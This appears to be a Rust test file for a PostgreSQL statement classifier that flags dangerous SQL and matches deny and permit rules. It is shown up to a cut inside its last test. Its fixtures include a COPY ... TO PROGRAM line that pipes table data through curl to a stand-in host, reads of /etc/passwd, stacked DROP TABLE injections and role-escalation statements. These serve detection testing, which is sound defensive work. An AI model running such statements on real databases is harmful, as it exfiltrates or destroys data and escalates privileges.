use super::*;

/// One line per analysis: statements joined by ` | `, operations by `; `, each as its kinds
/// joined by `+`, ` on REL`, ` !where`; opaque parts as `[opaque: ...]`.
fn describe(sql: &str) -> String {
    match analyze(sql) {
        Err(e) => format!("error: {e}"),
        Ok(a) => a
            .statements
            .iter()
            .map(|s| {
                let mut ops: Vec<String> = s
                    .operations
                    .iter()
                    .map(|o| {
                        let mut d = o.kinds.join("+");
                        if let Some(r) = &o.relation {
                            d.push_str(&format!(" on {r}"));
                        }
                        if o.without_where {
                            d.push_str(" !where");
                        }
                        d
                    })
                    .collect();
                ops.extend(s.opaque.iter().map(|o| format!("[opaque: {o}]")));
                ops.join("; ")
            })
            .collect::<Vec<_>>()
            .join(" | "),
    }
}

/// Spellings of dangerous statements, each followed by a benign twin.
const CLASSIFIED: &[(&str, &str)] = &[
    // Case, comments, layout.
    ("DeLeTe FrOm t", "DELETE on t !where"),
    ("delete from t where id = 1", "DELETE on t"),
    ("/* hi */ DELETE -- x\n FROM t", "DELETE on t !where"),
    ("DELETE FROM t /* WHERE true */ WHERE id = 2", "DELETE on t"),
    ("SELECT 1 -- ; DROP TABLE t", "SELECT"),
    ("SELECT 1 /* ; DROP TABLE t */", "SELECT"),
    ("SELECT 1 /* nested /* ; */ DROP TABLE t */", "SELECT"),
    ("SELECT $$; DROP TABLE t$$", "SELECT"),
    ("SELECT E'\\'; DROP TABLE t; --'", "SELECT"),
    ("SELECT ';'; DROP TABLE t", "SELECT | DROP TABLE on t"),
    // Quoted identifiers and schemas.
    ("DELETE FROM \"users\"", "DELETE on users !where"),
    ("DELETE FROM \"Users\" WHERE id = 1", "DELETE on Users"),
    ("DELETE FROM U&\"\\0075sers\"", "DELETE on users !where"),
    ("DELETE FROM \"public\".\"users\"", "DELETE on public.users !where"),
    ("DELETE FROM ONLY public.users WHERE id = 1", "DELETE on public.users"),
    // Conditions that spare no row, and real ones.
    ("DELETE FROM t WHERE true", "DELETE on t !where"),
    ("DELETE FROM t WHERE false", "DELETE on t"),
    ("DELETE FROM t WHERE 1=1", "DELETE on t !where"),
    ("DELETE FROM t WHERE 1=0", "DELETE on t"),
    ("DELETE FROM t WHERE 't'", "DELETE on t !where"),
    ("DELETE FROM t WHERE 'off'", "DELETE on t"),
    ("DELETE FROM t WHERE 'yes'::boolean", "DELETE on t !where"),
    // A condition that reads no row holds for all rows or none.
    ("DELETE FROM t WHERE 1::bool", "DELETE on t !where"),
    ("DELETE FROM t WHERE 1 IN (1)", "DELETE on t !where"),
    ("DELETE FROM t WHERE 1 BETWEEN 0 AND 2", "DELETE on t !where"),
    ("DELETE FROM t WHERE 'a' LIKE 'a'", "DELETE on t !where"),
    ("DELETE FROM t WHERE 2 - 1 = 1", "DELETE on t !where"),
    ("DELETE FROM t WHERE $1", "DELETE on t !where"),
    ("UPDATE t SET x = 1 WHERE coalesce($1, true)", "UPDATE on t !where"),
    ("DELETE FROM t WHERE EXISTS (SELECT 1)", "DELETE on t !where"),
    ("DELETE FROM t WHERE id IN (1)", "DELETE on t"),
    ("DELETE FROM t WHERE id = $1", "DELETE on t"),
    ("DELETE FROM t WHERE CURRENT OF c", "DELETE on t"),
    ("DELETE FROM t WHERE NULL", "DELETE on t"),
    // Rewrites of every row that are not spelled UPDATE.
    (
        "ALTER TABLE t ALTER COLUMN email TYPE text USING NULL",
        "ALTER TABLE on t; UPDATE on t !where",
    ),
    ("ALTER TABLE t ADD COLUMN c int", "ALTER TABLE on t"),
    (
        "INSERT INTO t SELECT * FROM t ON CONFLICT (id) DO UPDATE SET email = NULL",
        "INSERT on t; UPDATE on t !where; SELECT on t",
    ),
    (
        "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET email = NULL",
        "INSERT on t; UPDATE on t",
    ),
    (
        "INSERT INTO t SELECT * FROM unnest($1::int[]) ON CONFLICT (id) DO UPDATE SET x = 1",
        "INSERT on t; UPDATE on t",
    ),
    ("ALTER TYPE comp ALTER ATTRIBUTE a TYPE int", "ALTER TYPE on comp"),
    // Role membership and default roles by other names.
    ("ALTER GROUP admin ADD USER mallory", "ALTER ROLE+GRANT"),
    ("ALTER GROUP admin DROP USER mallory", "ALTER ROLE+REVOKE"),
    ("CREATE ROLE x IN ROLE admin", "CREATE ROLE+GRANT"),
    ("CREATE ROLE x LOGIN", "CREATE ROLE"),
    ("ALTER ROLE CURRENT_USER SET role = 'admin'", "ALTER ROLE+SET ROLE"),
    ("ALTER ROLE CURRENT_USER SET work_mem = '1MB'", "ALTER ROLE"),
    ("ALTER ROLE CURRENT_USER RESET role", "ALTER ROLE"),
    ("ALTER DATABASE app SET role = 'admin'", "ALTER DATABASE+SET ROLE"),
    // Whole schemas: every relation in them.
    ("ALTER SCHEMA secrets RENAME TO s2", "ALTER SCHEMA on secrets.*"),
    (
        "DROP SCHEMA secrets, other CASCADE",
        "DROP SCHEMA on secrets.*; DROP SCHEMA on other.*",
    ),
    ("ALTER SCHEMA secrets OWNER TO bob", "ALTER SCHEMA on secrets.*"),
    (
        "GRANT SELECT ON ALL TABLES IN SCHEMA secrets TO bob",
        "GRANT on secrets.*",
    ),
    ("DROP OWNED BY bob", "DROP OWNED on *"),
    ("REASSIGN OWNED BY bob TO alice", "REASSIGN OWNED on *"),
    // Server files.
    (
        "COPY (SELECT 1) TO '/tmp/x'",
        "COPY TO FILE+COPY FILE; [opaque: COPY ... TO a file writes a file on the database server (its configuration, say)]",
    ),
    ("COPY t FROM '/tmp/x'", "COPY FROM FILE+COPY FILE+INSERT on t"),
    ("DELETE FROM t WHERE NOT false", "DELETE on t !where"),
    ("DELETE FROM t WHERE NOT true", "DELETE on t"),
    ("DELETE FROM t WHERE 2 > 1", "DELETE on t !where"),
    ("DELETE FROM t WHERE 2 < 1", "DELETE on t"),
    ("DELETE FROM t WHERE 1 = '1'", "DELETE on t !where"),
    ("DELETE FROM t WHERE 'a' = 'a'", "DELETE on t !where"),
    ("DELETE FROM t WHERE 'a' = 'b'", "DELETE on t"),
    ("DELETE FROM t WHERE x = 5 OR 1 = 1", "DELETE on t !where"),
    ("DELETE FROM t WHERE x = 5 AND 1 = 1", "DELETE on t"),
    ("DELETE FROM t WHERE id = id", "DELETE on t !where"),
    ("DELETE FROM t AS x WHERE x.id = x.id", "DELETE on t !where"),
    ("DELETE FROM t WHERE id = other", "DELETE on t"),
    ("DELETE FROM t WHERE NULL IS NULL", "DELETE on t !where"),
    ("DELETE FROM t WHERE 1 IS NULL", "DELETE on t"),
    ("DELETE FROM t WHERE NULL", "DELETE on t"),
    ("DELETE FROM t WHERE (1 = 1) IS TRUE", "DELETE on t !where"),
    ("DELETE FROM t WHERE 1 IS NOT DISTINCT FROM 1", "DELETE on t !where"),
    ("DELETE FROM t WHERE 1.5 >= 1", "DELETE on t !where"),
    ("DELETE FROM t WHERE id > 0", "DELETE on t"),
    ("DELETE FROM t WHERE CURRENT OF c", "DELETE on t"),
    ("UPDATE t SET x = 1", "UPDATE on t !where"),
    ("UPDATE t SET x = 1 WHERE 1 = 1", "UPDATE on t !where"),
    ("UPDATE t SET x = 1 WHERE id = id OR false", "UPDATE on t !where"),
    ("UPDATE t SET x = 1 WHERE id = 7", "UPDATE on t"),
    ("UPDATE t SET x = 1 FROM u WHERE t.id = u.id", "UPDATE on t; SELECT on u"),
    // Data changes nested in other statements.
    ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "SELECT on d; DELETE on t !where"),
    ("WITH d AS (SELECT * FROM t) SELECT * FROM d", "SELECT on d; SELECT on t"),
    (
        "WITH RECURSIVE a AS (SELECT 1), b AS (UPDATE t SET x = 1 RETURNING 1) SELECT 1",
        "SELECT; UPDATE on t !where",
    ),
    ("PREPARE p AS DELETE FROM t", "PREPARE; DELETE on t !where"),
    ("PREPARE p AS SELECT * FROM t", "PREPARE; SELECT on t"),
    ("EXPLAIN ANALYZE DELETE FROM t", "EXPLAIN ANALYZE; DELETE on t !where"),
    ("EXPLAIN (ANALYZE) DELETE FROM t", "EXPLAIN ANALYZE; DELETE on t !where"),
    ("EXPLAIN (ANALYZE true, BUFFERS) DELETE FROM t", "EXPLAIN ANALYZE; DELETE on t !where"),
    ("EXPLAIN DELETE FROM t", "EXPLAIN on t"),
    ("EXPLAIN (ANALYZE off) DELETE FROM t", "EXPLAIN on t"),
    ("EXPLAIN (ANALYZE 0) DELETE FROM t", "EXPLAIN on t"),
    ("EXPLAIN SELECT * FROM a JOIN b USING (id)", "EXPLAIN on a; EXPLAIN on b"),
    ("EXPLAIN EXECUTE p", "EXPLAIN"),
    ("CREATE TABLE x AS SELECT * FROM payroll.s", "CREATE TABLE AS on x; SELECT on payroll.s"),
    ("CREATE TABLE x (a int)", "CREATE TABLE on x"),
    ("SELECT * INTO x FROM y", "SELECT on y; CREATE TABLE AS on x"),
    ("COPY (DELETE FROM t RETURNING *) TO STDOUT", "COPY TO STDOUT; DELETE on t !where"),
    ("COPY (SELECT * FROM t) TO STDOUT", "COPY TO STDOUT; SELECT on t"),
    (
        "CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u",
        "CREATE RULE on t; DELETE on u !where",
    ),
    (
        "CREATE OR REPLACE RULE r AS ON INSERT TO t DO INSTEAD NOTHING",
        "CREATE RULE+CREATE OR REPLACE RULE on t",
    ),
    ("DECLARE c CURSOR FOR SELECT * FROM t", "DECLARE; SELECT on t"),
    ("CREATE VIEW v AS SELECT * FROM payroll.s", "CREATE VIEW on v; SELECT on payroll.s"),
    ("CREATE SCHEMA s CREATE TABLE t (x int)", "CREATE SCHEMA; CREATE TABLE on t"),
    (
        "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET x = 1",
        "INSERT on t; UPDATE on t",
    ),
    ("INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING", "INSERT on t"),
    ("INSERT INTO t SELECT * FROM payroll.s", "INSERT on t; SELECT on payroll.s"),
    (
        "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (1)",
        "MERGE on t; DELETE on t !where; INSERT on t; SELECT on s",
    ),
    (
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET x = 1",
        "MERGE on t; UPDATE on t; SELECT on s",
    ),
    // Multi-statement strings.
    ("select 1; drop table t", "SELECT | DROP TABLE on t"),
    ("select 1; select 2", "SELECT | SELECT"),
    ("BEGIN; DELETE FROM t; COMMIT", "BEGIN | DELETE on t !where | COMMIT"),
    // Opaque statements.
    ("DO $$ BEGIN DELETE FROM t; END $$", "DO; [opaque: a DO block runs code vigil cannot see]"),
    ("do language plpgsql 'begin null; end'", "DO; [opaque: a DO block runs code vigil cannot see]"),
    (
        "EXECUTE p(1)",
        "EXECUTE; [opaque: EXECUTE p runs a prepared statement vigil cannot see]",
    ),
    ("DEALLOCATE p", "DEALLOCATE"),
    (
        "CREATE OR REPLACE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'x'; END $$",
        "CREATE FUNCTION+CREATE OR REPLACE FUNCTION; [opaque: a plpgsql routine body can run statements vigil cannot see]",
    ),
    (
        "CREATE PROCEDURE p() LANGUAGE plpython3u AS 'pass'",
        "CREATE PROCEDURE; [opaque: a plpython3u routine body can run statements vigil cannot see]",
    ),
    (
        "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
        "CREATE FUNCTION+CREATE OR REPLACE FUNCTION",
    ),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE SQL AS 'DELETE FROM t'", "CREATE FUNCTION; DELETE on t !where"),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t WHERE id = 1; SELECT 1; END",
        "CREATE FUNCTION; DELETE on t",
    ),
    (
        "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM'",
        "CREATE FUNCTION; [opaque: an SQL routine body cannot be analysed: PostgreSQL's parser rejects it: syntax error at end of input]",
    ),
    (
        "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $a$ CREATE FUNCTION g() RETURNS void LANGUAGE sql AS $b$ DROP TABLE t $b$ $a$",
        "CREATE FUNCTION; DROP TABLE on t",
    ),
    (
        "SELECT dblink_exec('dbname=app', 'DELETE FROM t')",
        "SELECT; [opaque: dblink_exec() runs a statement given as a string (dblink)]",
    ),
    (
        "SELECT * FROM public.DBLINK('', 'x') AS r(x int)",
        "SELECT; [opaque: dblink() runs a query given as a string (dblink)]",
    ),
    (
        "SELECT lo_import('/etc/passwd')",
        "SELECT; [opaque: lo_import() reads a file on the database server]",
    ),
    (
        "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')",
        "SELECT; [opaque: query_to_xml() runs a query given as a string]",
    ),
    (
        "CREATE AGGREGATE a (sfunc = dblink_exec, stype = text)",
        "CREATE AGGREGATE; [opaque: dblink_exec() runs a statement given as a string (dblink)]",
    ),
    ("SELECT 'dblink_exec', dblink_exec FROM t", "SELECT on t"),
    (
        "SELECT set_config(name, 'x', false) FROM t",
        "SELECT on t; SET; [opaque: set_config() sets a parameter whose name is computed]",
    ),
    ("SELECT set_config('role', 'x', false)", "SELECT; SET+SET ROLE"),
    // COPY.
    ("COPY t TO PROGRAM 'curl -d @- evil'", "COPY TO PROGRAM+COPY PROGRAM+SELECT on t; [opaque: COPY ... PROGRAM runs a command on the database server that can do anything]"),
    ("COPY t FROM PROGRAM 'id'", "COPY FROM PROGRAM+COPY PROGRAM+INSERT on t; [opaque: COPY ... PROGRAM runs a command on the database server that can do anything]"),
    ("COPY t FROM '/etc/passwd'", "COPY FROM FILE+COPY FILE+INSERT on t"),
    ("COPY t TO STDOUT", "COPY TO STDOUT+SELECT on t"),
    ("COPY t FROM STDIN", "COPY FROM STDIN+INSERT on t"),
    // DDL and the rest.
    ("ALTER SYSTEM SET wal_level = minimal", "ALTER SYSTEM"),
    ("SHOW wal_level", "SHOW+SHOW WAL_LEVEL"),
    ("GRANT SELECT ON t TO u", "GRANT on t"),
    ("REVOKE SELECT ON t FROM u", "REVOKE on t"),
    ("GRANT admin TO bob", "GRANT"),
    ("DROP TABLE a, s.b", "DROP TABLE on a; DROP TABLE on s.b"),
    ("DROP TRIGGER tr ON s.t", "DROP TRIGGER on s.t"),
    ("DROP SCHEMA s CASCADE", "DROP SCHEMA on s.*"),
    ("DROP DATABASE d", "DROP DATABASE"),
    ("DROP USER bob", "DROP ROLE"),
    ("ALTER TABLE t DROP COLUMN c", "ALTER TABLE+DROP COLUMN on t"),
    ("ALTER TABLE t ADD COLUMN c int", "ALTER TABLE on t"),
    ("ALTER TABLE t RENAME COLUMN a TO b", "ALTER TABLE on t"),
    ("ALTER INDEX i RENAME TO j", "ALTER INDEX on i"),
    ("TRUNCATE a, b", "TRUNCATE on a; TRUNCATE on b"),
    ("SET search_path = a", "SET+SET SEARCH_PATH"),
    ("SET LOCAL ROLE admin", "SET+SET ROLE"),
    ("SET SESSION AUTHORIZATION bob", "SET+SET SESSION AUTHORIZATION"),
    ("RESET ALL", "RESET"),
    ("ALTER ROLE bob SET search_path = a", "ALTER ROLE"),
    ("START TRANSACTION", "BEGIN+START TRANSACTION"),
    ("VACUUM FULL t", "VACUUM+VACUUM FULL on t"),
    ("VACUUM t", "VACUUM on t"),
    ("ANALYZE t", "ANALYZE on t"),
    ("LISTEN x", "LISTEN"),
    ("NOTIFY x", "NOTIFY"),
    ("CREATE USER bob", "CREATE ROLE"),
    ("CREATE INDEX ON t (x)", "CREATE INDEX on t"),
    ("CREATE FOREIGN TABLE ft (x int) SERVER s", "CREATE FOREIGN TABLE on ft"),
    ("COMMENT ON TABLE s.t IS 'x'", "COMMENT on s.t"),
    ("COMMENT ON COLUMN s.t.c IS 'x'", "COMMENT on s.t"),
    ("CALL p()", "CALL"),
    ("LOCK t", "LOCK on t"),
    ("VALUES (1)", "SELECT"),
    ("TABLE t", "SELECT on t"),
    ("SELECT * FROM a JOIN b.c ON true WHERE x IN (SELECT 1 FROM d)", "SELECT on a; SELECT on b.c; SELECT on d"),
    (
        "SELECT (SELECT max(x) FROM s.t) FROM (SELECT 1 FROM u) q",
        "SELECT; SELECT on s.t; SELECT on u",
    ),
    // Not SQL.
    ("garbage here", "error: PostgreSQL's parser rejects it: syntax error at or near \"garbage\""),
    ("SELECT 'unterminated", "error: PostgreSQL's parser rejects it: Error scanning: unterminated quoted string at or near \"'unterminated\""),
    ("", ""),
    ("  ;; ", ""),
    ("-- only a comment", ""),
];

#[test]
fn statements_are_classified_in_every_spelling() {
    let mut failures = Vec::new();
    for (sql, want) in CLASSIFIED {
        let got = describe(sql);
        if got != *want {
            failures.push(format!("{sql}\n    got:  {got}\n    want: {want}"));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn every_kind_produced_is_a_valid_pattern() {
    for (sql, _) in CLASSIFIED {
        let Ok(a) = analyze(sql) else { continue };
        for kind in a.statements.iter().flat_map(|s| &s.kinds) {
            assert!(SqlPattern::parse(kind).is_ok(), "{kind} (from {sql})");
        }
    }
}

#[test]
fn statements_expose_flags_relations_and_spans() {
    let sql = "select * from a; delete from s.b; update c set x = 1 where id = 2; execute p";
    let a = analyze(sql).unwrap();
    let s = &a.statements;
    assert_eq!(s.len(), 4);
    let texts: Vec<&str> = s.iter().map(|s| &sql[s.span.clone()]).collect();
    assert_eq!(
        texts,
        [
            "select * from a",
            " delete from s.b",
            " update c set x = 1 where id = 2",
            " execute p"
        ]
    );
    assert_eq!(s[1].kinds, ["DELETE"]);
    assert_eq!(
        s[1].relations,
        [Relation {
            schema: Some("s".into()),
            name: "b".into()
        }]
    );
    assert!(s[1].delete_without_where && !s[1].update_without_where);
    assert!(!s[2].update_without_where);
    assert!(!s[0].is_opaque() && s[3].is_opaque());
    assert_eq!(s[3].prepared_names().collect::<Vec<_>>(), ["p"]);
    assert_eq!(s[1].relations[0].to_string(), "s.b");
}

#[test]
fn fingerprints_ignore_layout_but_not_constants() {
    let fp = |sql: &str| analyze(sql).unwrap().fingerprint;
    assert_eq!(
        fp("DELETE FROM t WHERE id = 1"),
        fp("delete   from t /* x */ where (id = 1)")
    );
    assert_ne!(
        fp("DELETE FROM t WHERE 1 = 1"),
        fp("DELETE FROM t WHERE 1 = 0")
    );
    assert_ne!(fp("DELETE FROM t"), fp("DELETE FROM u"));
    assert_ne!(fp("SELECT 1"), fp("SELECT 1; SELECT 1"));
    assert_eq!(fp("SELECT 1").len(), 64);
}

#[test]
fn input_that_cannot_be_analysed_is_an_error() {
    assert_eq!(analyze("SELECT 1\0; DROP TABLE t"), Err(SqlError::Nul));
    let long = format!("SELECT '{}'", "x".repeat(MAX_SQL_BYTES));
    assert_eq!(analyze(&long), Err(SqlError::TooLong));
    // pg_query's decoder stops at about 50 levels.
    let deep = format!("SELECT {}1", "1+".repeat(60));
    assert_eq!(analyze(&deep), Err(SqlError::TooDeep));
}

/// Regression: libpg_query writes its tree out recursively in C, without a stack check; these
/// overflowed a 2 MiB thread stack and aborted the process before the guard.
#[test]
fn deep_trees_are_refused_before_the_parser_runs() {
    let n = 5000;
    let inputs = [
        format!("SELECT {}1", "1+".repeat(n)),
        format!("SELECT {}true", "NOT ".repeat(n)),
        format!("SELECT 1{}", "::int".repeat(n)),
        format!("SELECT * FROM a {}", "JOIN a ON true ".repeat(n)),
        format!("SELECT {}1{}", "(SELECT ".repeat(n / 4), ")".repeat(n / 4)),
        format!("SELECT {}1{}", "(".repeat(n), ")".repeat(n)),
        format!("SELECT {}1", "ARRAY[".repeat(n)),
        format!("SELECT {}", "CASE WHEN true THEN ".repeat(n)),
        format!("SELECT 1 {}", "UNION SELECT 1 ".repeat(n)),
        format!("SELECT 'a' {}", "|| 'a' ".repeat(n)),
    ];
    for sql in &inputs {
        let got = std::thread::Builder::new()
            .stack_size(2 << 20)
            .spawn({
                let sql = sql.clone();
                move || analyze(&sql).map(|_| ())
            })
            .unwrap()
            .join()
            .unwrap();
        assert!(
            matches!(got, Err(SqlError::TooDeep | SqlError::Syntax(_))),
            "{}...: {got:?}",
            &sql[..40]
        );
    }
}

#[test]
fn large_flat_statements_are_analysed() {
    let rows = vec!["(1, 'a', now())"; 20_000].join(", ");
    let inserts = format!("INSERT INTO t VALUES {rows}");
    let conditions = (0..500).map(|i| format!("c{i} = {i}")).collect::<Vec<_>>();
    let wide_where = format!("DELETE FROM t WHERE {}", conditions.join(" AND "));
    let whens = (0..300)
        .map(|i| format!(" WHEN x = {i} THEN {i}"))
        .collect::<String>();
    let case = format!("SELECT CASE {whens} END FROM t");
    let in_list = format!(
        "SELECT * FROM t WHERE id IN ({})",
        (0..20_000)
            .map(|i| i.to_string())
            .collect::<Vec<_>>()
            .join(",")
    );
    let joins = (0..15)
        .map(|i| format!(" JOIN j{i} ON j{i}.id = t.id"))
        .collect::<String>();
    let joined = format!("SELECT * FROM t{joins} WHERE a = 1 AND b = 2 ORDER BY a DESC NULLS LAST");
    for (sql, want) in [
        (&inserts, "INSERT on t"),
        (&wide_where, "DELETE on t"),
        (&case, "SELECT on t"),
        (&in_list, "SELECT on t"),
    ] {
        assert_eq!(describe(sql), want, "{}", &sql[..60]);
    }
    assert!(analyze(&joined).is_ok());
}

#[test]
fn patterns_parse_or_say_why_not() {
    for ok in [
        "DROP",
        "drop table",
        "DELETE without where",
        "DELETE without WHERE on public.users",
        "UPDATE on users without WHERE",
        "* on secrets.keys",
        "* without WHERE",
        "SELECT on payroll.*",
        "SELECT on \"My Schema\".\"T\"",
        "CREATE USER",
        "create or replace function",
        "SET ROLE",
        "SET my.custom_setting",
        "COPY PROGRAM",
        "ALTER SYSTEM",
        "EXPLAIN ANALYZE",
        "DROP USER MAPPING",
    ] {
        assert!(
            SqlPattern::parse(ok).is_ok(),
            "{ok}: {:?}",
            SqlPattern::parse(ok)
        );
    }
    for (bad, why) in [
        ("", PatternError::Empty),
        ("   ", PatternError::Empty),
        ("DROPP", PatternError::UnknownKind("DROPP".into())),
        (
            "DROP TABLES",
            PatternError::UnknownKind("DROP TABLES".into()),
        ),
        ("DEL3TE", PatternError::UnknownKind("DEL3TE".into())),
        ("DELETE;", PatternError::BadWord("DELETE;".into())),
        ("DROP without", PatternError::Without),
        ("DROP without WHERE", PatternError::WithoutWhereKind),
        ("DELETE on", PatternError::On),
        ("DELETE on a.b.c", PatternError::Relation("a.b.c".into())),
        ("DELETE on a.", PatternError::Relation("a.".into())),
        ("DELETE on a-b", PatternError::Relation("a-b".into())),
        ("DELETE on a b", PatternError::Trailing("b".into())),
        ("DELETE on a on b", PatternError::Twice("on")),
        ("DELETE on \"a", PatternError::Unterminated),
        ("on t", PatternError::Empty),
    ] {
        assert_eq!(SqlPattern::parse(bad), Err(why), "{bad:?}");
    }
    let message = SqlPattern::parse("DROPP").unwrap_err().to_string();
    assert!(
        message.contains("unknown statement kind `DROPP`"),
        "{message}"
    );
}

#[test]
fn patterns_match_operations() {
    use MatchMode::{Permit, Restrict};
    type Row = (&'static str, MatchMode, &'static str, bool);
    let table: &[Row] = &[
        ("DROP", Restrict, "DROP TABLE t", true),
        // Non-ASCII capitals stay in unquoted names; deny and review rules ignore case.
        ("DELETE on Ärzte", Restrict, "DELETE FROM Ärzte", true),
        ("DELETE on Ärzte", Restrict, "DELETE FROM \"ärzte\"", true),
        ("DELETE on Ärzte", Permit, "DELETE FROM Ärzte", true),
        // A statement on a whole schema touches every relation in it.
        (
            "* on secrets.keys",
            Restrict,
            "ALTER SCHEMA secrets RENAME TO s2",
            true,
        ),
        (
            "* on secrets.keys",
            Restrict,
            "DROP SCHEMA secrets CASCADE",
            true,
        ),
        (
            "* on secrets.keys",
            Restrict,
            "DROP SCHEMA other CASCADE",
            false,
        ),
        ("* on secrets.keys", Restrict, "DROP OWNED BY bob", true),
        (
            "* on keys",
            Restrict,
            "GRANT SELECT ON ALL TABLES IN SCHEMA s TO bob",
            true,
        ),
        ("DROP on scratch.*", Permit, "DROP SCHEMA scratch", true),
        ("DROP on scratch.t", Permit, "DROP SCHEMA scratch", false),
        ("DROP on scratch.*", Permit, "DROP OWNED BY bob", false),
        ("DROP", Restrict, "drop schema s cascade", true),
        ("DROP", Restrict, "ALTER TABLE t DROP COLUMN c", true),
        ("DROP", Restrict, "CREATE TABLE t ()", false),
        ("DROP TABLE", Restrict, "DROP TABLE t", true),
        ("DROP TABLE", Restrict, "DROP VIEW v", false),
        (
            "DELETE without WHERE",
            Restrict,
            "DELETE FROM t WHERE 1 = 1",
            true,
        ),
        (
            "DELETE without WHERE",
            Restrict,
            "DELETE FROM t WHERE id = 3",
            false,
        ),
        (
            "DELETE without WHERE",
            Restrict,
            "UPDATE t SET x = 1",
            false,
        ),
        ("* without WHERE", Restrict, "UPDATE t SET x = 1", true),
        (
            "DELETE",
            Restrict,
            "WITH x AS (DELETE FROM t RETURNING 1) SELECT 1",
            true,
        ),
        (
            "DELETE",
            Restrict,
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
            true,
        ),
        (
            "DELETE",
            Restrict,
            "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM t'",
            true,
        ),
        ("DELETE", Restrict, "SELECT * FROM t", false),
        (
            "UPDATE",
            Restrict,
            "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET x = 2",
            true,
        ),
        ("INSERT", Restrict, "COPY t FROM STDIN", true),
        (
            "DELETE on public.users",
            Restrict,
            "DELETE FROM public.users WHERE id = 1",
            true,
        ),
        (
            "DELETE on public.users",
            Restrict,
            "DELETE FROM PUBLIC.USERS",
            true,
        ),
        (
            "DELETE on public.users",
            Restrict,
            "DELETE FROM users",
            true,
        ),
        (
            "DELETE on public.users",
            Restrict,
            "DELETE FROM \"Users\"",
            true,
        ),
        (
            "DELETE on public.users",
            Restrict,
            "DELETE FROM other.users",
            false,
        ),
        (
            "DELETE on public.users",
            Restrict,
            "DELETE FROM t USING public.users",
            false,
        ),
        (
            "DELETE on public.users",
            Permit,
            "DELETE FROM public.users",
            true,
        ),
        ("DELETE on public.users", Permit, "DELETE FROM users", false),
        (
            "DELETE on public.users",
            Permit,
            "DELETE FROM public.\"Users\"",
            false,
        ),
        ("DELETE on \"Users\"", Restrict, "DELETE FROM users", false),
        (
            "DELETE on \"Users\"",
            Restrict,
            "DELETE FROM \"Users\"",
            true,
        ),
        (
            "UPDATE on users",
            Restrict,
            "UPDATE app.users SET x = 1 WHERE id = 1",
            true,
        ),
        (
            "UPDATE on users",
            Permit,
            "UPDATE app.users SET x = 1 WHERE id = 1",
            true,
        ),
        (
            "SELECT on payroll.*",
            Restrict,
            "SELECT * FROM payroll.salaries",
            true,
        ),
        (
            "SELECT on payroll.*",
            Restrict,
            "INSERT INTO t SELECT * FROM payroll.s",
            true,
        ),
        (
            "SELECT on payroll.*",
            Restrict,
            "COPY payroll.s TO STDOUT",
            true,
        ),
        (
            "SELECT on payroll.*",
            Restrict,
            "DELETE FROM t USING payroll.s",
            true,
        ),
        (
            "SELECT on payroll.*",
            Restrict,
            "SELECT * FROM public.orders",
            false,
        ),
        // Unqualified: the search_path may lead to payroll.
        (
            "SELECT on payroll.*",
            Restrict,
            "SELECT * FROM orders",
            true,
        ),
        ("SELECT on payroll.*", Permit, "SELECT * FROM orders", false),
        (
            "SELECT on pay?oll.s*",
            Restrict,
            "SELECT * FROM payroll.salaries",
            true,
        ),
        (
            "* on secrets.keys",
            Restrict,
            "SELECT * FROM secrets.keys",
            true,
        ),
        (
            "* on secrets.keys",
            Restrict,
            "DROP TABLE secrets.keys",
            true,
        ),
        (
            "* on secrets.keys",
            Restrict,
            "GRANT SELECT ON secrets.keys TO x",
            true,
        ),
        (
            "* on secrets.keys",
            Restrict,
            "COMMENT ON TABLE secrets.keys IS ''",
            true,
        ),
        (
            "* on secrets.keys",
            Restrict,
            "EXPLAIN SELECT * FROM secrets.keys",
            true,
        ),
        (
            "* on secrets.keys",
            Restrict,
            "WITH x AS (SELECT * FROM secrets.keys) SELECT 1",
            true,
        ),
        (
            "* on secrets.keys",
            Restrict,
            "SELECT * FROM secrets.other",
            false,
        ),
        ("* on secrets.keys", Restrict, "SELECT 1", false),
        ("COPY PROGRAM", Restrict, "COPY t TO PROGRAM 'x'", true),
        ("COPY PROGRAM", Restrict, "COPY t FROM PROGRAM 'x'", true),
        ("COPY PROGRAM", Restrict, "COPY t TO STDOUT", false),
        (
            "CREATE FUNCTION",
            Restrict,
            "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
            true,
        ),
        (
            "CREATE FUNCTION",
            Restrict,
            "CREATE PROCEDURE p() LANGUAGE sql AS 'SELECT 1'",
            false,
        ),
        ("GRANT", Restrict, "GRANT admin TO bob", true),
        ("GRANT", Restrict, "REVOKE admin FROM bob", false),
        ("ALTER SYSTEM", Restrict, "ALTER SYSTEM SET x = 1", true),
        ("SET", Restrict, "ALTER SYSTEM SET x = 1", false),
        ("SET ROLE", Restrict, "SET ROLE postgres", true),
        (
            "SET ROLE",
            Restrict,
            "SELECT set_config('role', 'postgres', false)",
            true,
        ),
        ("SET ROLE", Restrict, "SET search_path = x", false),
        ("CREATE USER", Restrict, "CREATE ROLE x LOGIN", true),
        ("CREATE USER MAPPING", Restrict, "CREATE ROLE x", false),
        ("TRUNCATE", Restrict, "truncate table a", true),
        ("EXPLAIN", Restrict, "EXPLAIN ANALYZE SELECT 1", true),
    ];
    for (pattern, mode, sql, want) in table {
        let m = SqlMatcher::new([(7, SqlPattern::parse(pattern).unwrap())], *mode);
        let got = m.check(&analyze(sql).unwrap());
        let matched = matches!(got, Verdict::Match { pattern: 7, .. });
